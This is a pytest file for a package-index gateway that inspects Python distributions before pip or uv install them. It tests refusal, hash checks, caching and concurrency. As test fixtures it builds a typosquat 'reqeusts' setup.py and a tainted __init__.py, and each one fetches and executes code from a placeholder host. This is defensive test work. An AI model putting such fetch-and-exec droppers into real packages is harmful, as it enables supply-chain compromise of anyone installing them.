"""The real server with the real engine, real pip and real uv before it, and an index behind it that fails."""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.distributions import Built, make_sdist, make_wheel
from tests.support.server import Server, environment, events, serving
from tests.support.upstream_server import Fault, LocalIndex

_UV = shutil.which("uv", path=str(Path(sys.executable).parent)) or "uv"
_LOOK_ALIKE = "reqeusts"
_CROWD = 20


@dataclass(frozen=True, slots=True, kw_only=True)
class Shop:
    """An index, a gateway before it, and a folder for what a client does."""

    behind: LocalIndex
    server: Server
    folder: Path

    @property
    def site(self) -> Path:
        """Where clients install to."""
        return self.folder / "site"

    def installed(self) -> set[str]:
        """What stands in the site; uv's own lock is no part of it."""
        return {path.name for path in self.site.glob("*")} - {".lock"}

    def install(self, client: str, requirement: str) -> tuple[int, str]:
        """Run a client that can reach nothing but the gateway; its exit status and all it printed."""
        index, target = self.server.index, ["--target", str(self.site), requirement]
        command = {
            "pip": [sys.executable, "-m", "pip", "install", "--no-cache-dir", "--index-url", index, *target],
            "uv": [_UV, "pip", "install", "--no-cache", "--no-config", "--default-index", index, *target],
        }[client]
        done = subprocess.run(
            command, env=environment(), cwd=self.folder, capture_output=True, text=True, timeout=180, check=False
        )
        return done.returncode, " ".join((done.stdout + done.stderr).split())


@pytest.fixture
def shop(tmp_path: Path) -> Iterator[Shop]:
    """An empty index and a fresh gateway."""
    behind = LocalIndex()
    with behind.serving_in_thread() as url, serving(tmp_path / "data", url) as server:
        yield Shop(behind=behind, server=server, folder=tmp_path)


def _dropper(sentinel: Path) -> str:
    return (
        "import urllib.request\n"
        "from setuptools import setup\n"
        f"open({str(sentinel)!r}, 'w').close()\n"
        "exec(urllib.request.urlopen('http://192.0.2.1/stage', timeout=5).read())\n"
        f"setup(name={_LOOK_ALIKE!r}, version='1.0')\n"
    )


def _honest(version: str, source: str = "x = 1\n") -> Built:
    return make_wheel("honest-demo", version, {"honest_demo/__init__.py": source})


def _path(built: Built) -> str:
    return f"/files/{built.project}/{built.filename}"


@pytest.mark.parametrize("client", ["pip", "uv"])
def test_look_alike_dropper_never_runs(shop: Shop, client: str) -> None:
    """A look-alike whose set-up fetches and executes code is refused with rule, file and line; none of it ran."""
    sentinel = shop.folder / "sentinel"
    built = make_sdist(_LOOK_ALIKE, "1.0", {"setup.py": _dropper(sentinel)})
    shop.behind.add(built)
    status, printed = shop.install(client, f"{_LOOK_ALIKE}==1.0")
    assert status != 0
    assert "second-stage in setup.py:4" in printed
    assert not sentinel.exists()
    assert shop.installed() == set()
    assert set(events(shop.server.data, "sha256", "filename = ?", built.filename)) == {built.sha256}
    assert events(shop.server.data, "kind", "kind = 'refusal' AND sha256 = ?", built.sha256)
    assert not events(shop.server.data, "kind", "kind = 'download'")


def test_unpinned_pip_takes_the_clean_release_the_second_time(shop: Shop) -> None:
    """A project whose newest release turned bad: refused once and told why, then the older one is installed."""
    good = _honest("1.0")
    bad = _honest("1.1", "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/stage').read())\n")
    shop.behind.add(good)
    shop.behind.add(bad)
    status, printed = shop.install("pip", "honest-demo")
    assert (status != 0, "second-stage in honest_demo/__init__.py:2" in printed) == (True, True), printed
    status, printed = shop.install("pip", "honest-demo")
    assert status == 0, printed
    assert "honest_demo-1.0.dist-info" in shop.installed()
    assert set(events(shop.server.data, "sha256", "kind = 'download'")) == {good.sha256}


@pytest.mark.parametrize("client", ["pip", "uv"])
def test_bytes_that_break_their_promise_are_not_installed(shop: Shop, client: str) -> None:
    """What does not match the index's digest reaches nobody."""
    shop.behind.add(_honest("1.0"), fault=Fault(wrong_hash=True))
    status, printed = shop.install(client, "honest-demo==1.0")
    assert status != 0, printed
    assert shop.installed() == set()
    assert not events(shop.server.data, "kind", "kind = 'download'")
    assert events(shop.server.data, "kind", "kind = 'refusal'")


def test_cached_file_is_served_while_the_upstream_is_down(shop: Shop) -> None:
    """What was installed once needs no upstream; what was not is an error, never a guess."""
    known, unknown = _honest("1.0"), make_wheel("other-demo", "1.0", {"other_demo.py": ""})
    shop.behind.add(known)
    shop.behind.add(unknown)
    status, printed = shop.install("pip", "honest-demo==1.0")
    assert status == 0, printed
    shop.behind.down = True
    answer = shop.server.get(_path(known))
    assert (answer.status, answer.body) == (200, known.data)
    assert shop.server.get(_path(unknown)).status == 502
    shutil.rmtree(shop.site)
    status, printed = shop.install("pip", "honest-demo==1.0")
    assert status == 0, printed
    assert "honest_demo-1.0.dist-info" in shop.installed()


@pytest.mark.parametrize("client", ["pip", "uv"])
def test_a_kept_wheel_can_be_installed_without_metadata_ever_fetched(shop: Shop, client: str) -> None:
    """The upstream announced metadata, nobody asked for them, and now it is down: they come from the wheel."""
    built = _honest("1.0")
    shop.behind.add(built)
    assert shop.server.get(_path(built)).status == 200
    shop.behind.down = True
    status, printed = shop.install(client, "honest-demo==1.0")
    assert status == 0, printed
    assert "honest_demo-1.0.dist-info" in shop.installed()
    assert shop.behind.counts[f"/packages/{built.filename}.metadata"] == 0


@pytest.mark.parametrize("client", ["pip", "uv"])
def test_an_sdist_that_builds_with_a_url_is_refused(shop: Shop, client: str) -> None:
    """What it needs to be built would be fetched around the gateway; the client is told so and builds nothing."""
    pyproject = '[build-system]\nrequires = ["setuptools", "helper @ http://192.0.2.1/helper.whl"]\n'
    built = make_sdist("honest-demo", "1.0", {"pyproject.toml": pyproject})
    shop.behind.add(built)
    status, printed = shop.install(client, "honest-demo==1.0")
    assert status != 0
    assert "metadata-claims in pyproject.toml" in printed
    assert shop.installed() == set()


def test_truncated_body_is_an_error_until_it_is_mended(shop: Shop) -> None:
    """Half a file is never passed on nor remembered: once the upstream is well, so is the answer."""
    built = _honest("1.0")
    shop.behind.add(built, fault=Fault(truncate=100))
    answer = shop.server.get(_path(built))
    assert answer.status == 502
    assert not events(shop.server.data, "kind", "kind = 'download'")
    shop.behind.fault(built.filename, None)
    answer = shop.server.get(_path(built))
    assert (answer.status, answer.body) == (200, built.data)


def test_a_crowd_costs_the_upstream_one_fetch(shop: Shop) -> None:
    """Twenty cold requests of one file at once: one fetch, twenty equal bodies, twenty recorded downloads."""
    built = _honest("1.0")
    shop.behind.add(built, fault=Fault(hold=_CROWD))
    path = f"/packages/{built.filename}"
    with ThreadPoolExecutor(_CROWD) as crowd:
        asked = [crowd.submit(shop.server.get, _path(built)) for _ in range(_CROWD)]
        shop.behind.wait_for_requests(path)
        shop.behind.release(built.filename)
        answers = [one.result() for one in asked]
    assert [(a.status, a.body) for a in answers] == [(200, built.data)] * _CROWD
    assert shop.behind.counts[path] == 1
    assert sorted(events(shop.server.data, "request", "kind = 'download'")) == sorted(a.request for a in answers)
